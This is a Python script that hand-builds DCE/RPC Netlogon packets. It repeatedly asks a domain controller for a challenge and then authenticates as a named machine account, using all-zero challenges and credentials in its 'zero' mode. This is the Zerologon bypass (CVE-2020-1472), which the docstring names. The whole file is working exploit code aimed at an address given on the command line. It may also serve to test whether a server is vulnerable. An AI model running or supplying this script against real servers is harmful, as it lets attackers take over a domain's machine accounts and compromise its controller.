# SPDX-License-Identifier: Apache-2.0
"""
Logs in to a domain controller as a machine does ([MS-NRPC] 3.5.4.4): asks for a challenge, then proves
itself, TRIES times. With "zero" its challenge and its proof are all zeroes, as those send who have no
password and hope that the controller's cipher makes zeroes of them, too (CVE-2020-1472).

usage: ADDRESS PORT MACHINE TRIES [zero]
"""
import secrets
import socket
import struct
import sys
import uuid

NETLOGON, VERSION = "12345678-1234-abcd-ef00-01234567cffb", 1
NDR = bytes.fromhex("045d888aeb1cc9119fe808002b10486002000000")
BIND, REQUEST = 11, 0
REQUEST_CHALLENGE, AUTHENTICATE_3 = 4, 26
WORKSTATION_TRUST, FLAGS = 2, 0x212FFFFF


def packet(kind, call, body):
    return struct.pack("<4B4sHHI", 5, 0, kind, 3, b"\x10\0\0\0", 16 + len(body), 0, call) + body


def text(words):
    """A string of NDR: its counts, its letters and the zero at its end, filled up to four bytes."""
    letters = (words + "\0").encode("utf-16-le")
    count = len(words) + 1
    return struct.pack("<3I", count, 0, count) + letters + bytes(-len(letters) % 4)


def request(call, operation, arguments):
    return packet(REQUEST, call, struct.pack("<IHH", len(arguments), 0, operation) + arguments)


address, port, machine, tries = sys.argv[1:5]
eight = (lambda: bytes(8)) if sys.argv[5:] == ["zero"] else (lambda: secrets.token_bytes(8))
server = struct.pack("<I", 0x20000) + text("\\\\" + address)
with socket.create_connection((address, int(port)), timeout=10) as sock:
    sock.sendall(packet(BIND, 1, struct.pack("<HHIB3xHBx", 4280, 4280, 0, 1, 0, 1) +
                        uuid.UUID(NETLOGON).bytes_le + struct.pack("<HH", VERSION, 0) + NDR))
    sock.recv(4096)
    for attempt in range(int(tries)):
        sock.sendall(request(2 * attempt + 2, REQUEST_CHALLENGE, server + text(machine) + eight()))
        sock.recv(4096)
        sock.sendall(request(2 * attempt + 3, AUTHENTICATE_3,
                             server + text(machine + "$") + struct.pack("<H2x", WORKSTATION_TRUST) +
                             text(machine) + eight() + struct.pack("<I", FLAGS)))
        sock.recv(4096)
